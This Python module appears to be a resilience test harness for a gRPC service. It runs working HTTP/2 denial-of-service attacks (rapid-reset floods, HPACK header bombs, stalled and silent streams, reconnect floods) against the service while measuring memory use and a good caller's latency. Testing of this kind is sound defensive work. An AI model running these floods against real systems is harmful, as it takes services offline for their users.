"""Attacks on a service, each from a process of its own, beside a good caller in another one."""

import contextlib
import multiprocessing
import socket
import time
from collections import Counter
from collections.abc import Callable, Iterator
from itertools import count, cycle
from multiprocessing.connection import Connection as Pipe
from statistics import quantiles
from threading import Thread
from typing import NamedTuple

import grpc
from calling import PATH
from hostile import PREDICT
from http2 import (
    END_HEADERS,
    HEADERS,
    RST_STREAM,
    Connection,
    call,
    frame,
    headers_of,
    hello,
    indexed_header,
    message,
)
from serving import Service

ATTACK_SECONDS = 10.0
# How long memory may take to come back.
REST_SECONDS = 5.0
CONNECTIONS = 1
# How many callers ask for too much.
AT_ONCE = 8
# grpcio takes in all that callers send at once, twice, before anything can count it.
TABLES_AT_ONCE = 4
# A connection runs 250 calls at once.
MOST_CALLS = range(3, 3 + 2 * 240, 2)
UNREAD_CONNECTIONS, SILENT_CONNECTIONS = 20, 60
RECONNECT_SECONDS = 0.01
CANCEL = (8).to_bytes(4, "big")
# A server keeps 4,096 bytes of headers, and takes 8,192 of a call's metadata, as they are sent.
KEPT_BYTES, REFERENCES = 4000, 3000

Attack = Callable[[str, bytes], None]


class Damage(NamedTuple):
    """What an attack did.

    Attributes:
        before, peak, after: MiB of the largest process of the service: before the attack, at the
            worst moment, and some seconds after its end.
        p99: Seconds that 99 of 100 calls of the good caller took at most.
        outcomes: How the good caller's calls ended.
    """

    before: float
    peak: float
    after: float
    p99: float
    outcomes: Counter[str]


def rapid_reset(address: str, request: bytes) -> None:
    """Make calls, and reset each at once."""
    data, path = message(request), PREDICT

    def resets(numbers: range) -> bytes:
        return b"".join(
            call(number, path, data) + frame(RST_STREAM, 0, number, CANCEL) for number in numbers
        )

    flood(address, b"", resets, streams=500)


def rapid_reset_of_open_calls(address: str, request: bytes) -> None:
    """Begin calls without a message, and reset each at once."""

    def resets(numbers: range) -> bytes:
        return b"".join(
            frame(HEADERS, END_HEADERS, number, PREDICT) + frame(RST_STREAM, 0, number, CANCEL)
            for number in numbers
        )

    flood(address, b"", resets, streams=500)


def header_bombs(address: str, request: bytes) -> None:
    """Begin calls whose headers are small on the wire, and 12 MB when they are written out."""
    first = frame(HEADERS, END_HEADERS, 1, PREDICT + indexed_header("x", "x" * KEPT_BYTES))
    bomb = PREDICT + b"\xbe" * REFERENCES  # The newest of the headers that are kept.

    def bombs(numbers: range) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS, number, bomb) for number in numbers)

    flood(address, first, bombs, streams=50)


def endless_calls(address: str, request: bytes) -> None:
    """Begin calls, and neither go on with them nor end them."""

    def beginnings(numbers: range) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS, number, PREDICT) for number in numbers)

    flood(address, b"", beginnings, streams=500)


def overrun_connections(address: str, request: bytes) -> None:
    """Make calls faster than the server allows, until it ends the connection, and connect again."""
    data, path = message(request), headers_of(f"{PATH}/BatchPredict")

    def calls(numbers: range) -> bytes:
        return b"".join(call(number, path, data) for number in numbers)

    flood(address, b"", calls, streams=10)


def unread_answers(address: str, request: bytes) -> None:
    """Ask for large answers on some connections, and take none of them."""
    data, path = message(request), headers_of(f"{PATH}/BatchPredict")
    calls = b"".join(call(number, path, data) for number in MOST_CALLS)
    hold_connections(address, hello(window=0) + calls, UNREAD_CONNECTIONS)


def silent_streams(address: str, request: bytes) -> None:
    """Open streams on many connections, and say nothing in them."""
    hold_connections(address, hello() + openings_of_streams(), SILENT_CONNECTIONS)


def reconnecting_streams(address: str, request: bytes) -> None:
    """Open streams on a hundred connections a second, and end each connection at once."""
    words = hello() + openings_of_streams()
    while True:
        with Connection(address) as connection, contextlib.suppress(OSError):
            connection.send(words)
            time.sleep(RECONNECT_SECONDS)


def openings_of_streams() -> bytes:
    """Return the beginnings of as many streams as a connection runs at once."""
    path = headers_of(f"{PATH}/StreamPredict")
    return b"".join(frame(HEADERS, END_HEADERS, number, path) for number in MOST_CALLS)


def hold_connections(address: str, words: bytes, count: int) -> None:
    """Say the same on so many connections, and no more; one that the server ends is replaced."""
    readers: list[Thread] = []
    while True:
        readers = [each for each in readers if each.is_alive()]
        if len(readers) < count:
            connection = Connection(address, timeout=3 * ATTACK_SECONDS)
            readers.append(Thread(target=read, args=[connection], daemon=True))
            readers[-1].start()
            with contextlib.suppress(OSError):  # The server has ended it; its reader ends, too.
                connection.send(words)
        else:
            time.sleep(0.05)


def many_tables(address: str, request: bytes) -> None:
    """Ask for the same columns again and again, some at once."""
    repeat(address, "BatchPredict", request, threads=TABLES_AT_ONCE)


def many_instances(address: str, request: bytes) -> None:
    """Ask for the same instance again and again, some at once."""
    repeat(address, "Predict", request)


def one_table_at_a_time(address: str, request: bytes) -> None:
    """Ask for the same columns again and again."""
    repeat(address, "BatchPredict", request, threads=1)


def large_streams(address: str, request: bytes) -> None:
    """Send the same instance again and again in streams, some at once, and take no answers."""

    def ask(channel: grpc.Channel) -> None:
        stream: grpc.StreamStreamMultiCallable[bytes, bytes]
        stream = channel.stream_stream(f"{PATH}/StreamPredict")
        answers = stream(cycle([request]), timeout=30)
        next(answers)
        time.sleep(30)

    on_threads(address, ask, AT_ONCE)


def repeat(address: str, method: str, request: bytes, threads: int = AT_ONCE) -> None:
    """Make the same call again and again, some at once, whatever it is answered."""

    def ask(channel: grpc.Channel) -> None:
        ask_once: grpc.UnaryUnaryMultiCallable[bytes, bytes]
        ask_once = channel.unary_unary(f"{PATH}/{method}")
        ask_once(request, timeout=30)

    on_threads(address, ask, threads)


def on_threads(address: str, ask: Callable[[grpc.Channel], None], count: int) -> None:
    """Ask again and again on some threads."""
    limits = [("grpc.max_send_message_length", -1), ("grpc.max_receive_message_length", -1)]

    def ask_on() -> None:
        with grpc.insecure_channel(address, options=limits) as channel:
            while True:
                with contextlib.suppress(grpc.RpcError):
                    ask(channel)

    threads = [Thread(target=ask_on, daemon=True) for _ in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def flood(address: str, first: bytes, words: Callable[[range], bytes], *, streams: int) -> None:
    """Say words about ever more streams on some connections, for as long as the process lives.

    A connection that the server closes, or takes nothing from, is replaced by another one.

    Args:
        first: What to say on a new connection.
        words: Returns what to say about streams of these numbers.
        streams: How many there are each time.
    """
    connections: list[tuple[Connection, Iterator[int]]] = []
    for turn in count():
        if len(connections) < CONNECTIONS:
            connection = Connection(address, timeout=2)
            connection.send(hello(window=0) + first)
            Thread(target=read, args=[connection], daemon=True).start()
            connections.append((connection, count(3, 2 * streams)))
        place = turn % len(connections)
        connection, numbers = connections[place]
        try:
            begin = next(numbers)
            connection.send(words(range(begin, begin + 2 * streams, 2)))
        except OSError:
            connection.socket.close()
            del connections[place]


def read(connection: Connection) -> None:
    """Read what there is, and be polite: servers read no further until their pings are answered."""
    with contextlib.suppress(OSError):
        for _ in connection.frames():
            pass
        connection.socket.shutdown(socket.SHUT_RDWR)


def call_well(address: str, request: bytes, results: Pipe) -> None:
    """Make one call after another until told to stop; send seconds and outcomes then."""
    seconds, outcomes = [], Counter[str]()
    with grpc.insecure_channel(address) as channel:
        predict: grpc.UnaryUnaryMultiCallable[bytes, bytes]
        predict = channel.unary_unary(f"{PATH}/Predict")
        predict(request, timeout=30)
        results.send("ready")
        while not results.poll():
            begin = time.monotonic()
            try:
                predict(request, timeout=20)
                outcomes["OK"] += 1
            except grpc.RpcError as error:
                outcomes[error.code().name] += 1
            seconds.append(time.monotonic() - begin)
            time.sleep(0.005)
    results.send((seconds, outcomes))


def damage_of(
    attack: Attack, service: Service, request: bytes, good: bytes, seconds: float = ATTACK_SECONDS
) -> Damage:
    """Attack a service for some seconds, while a good caller goes on.

    Args:
        request: What the attack asks for.
        good: What the good caller asks for: one row.
    """
    spawn = multiprocessing.get_context("spawn")
    ours, theirs = spawn.Pipe()
    caller = spawn.Process(target=call_well, args=(service.address, good, theirs), daemon=True)
    attacker = spawn.Process(target=attack, args=(service.address, request), daemon=True)
    try:
        caller.start()
        assert ours.poll(30), "waited in vain for the good caller"
        ours.recv()
        before = peak = service.memory()
        attacker.start()
        end = time.monotonic() + seconds
        while time.monotonic() < end:
            peak = max(peak, service.memory())
            assert attacker.is_alive(), f"the attack {attack.__name__} ended early"
            time.sleep(0.05)
        ours.send("stop")
        assert ours.poll(30), "waited in vain for what the good caller saw"
        times, outcomes = ours.recv()
        attacker.kill()
        time.sleep(REST_SECONDS)
        return Damage(before, peak, service.memory(), quantiles(times, n=100)[-1], outcomes)
    finally:
        for process in (caller, attacker):
            if process.pid:
                process.kill()
                process.join()
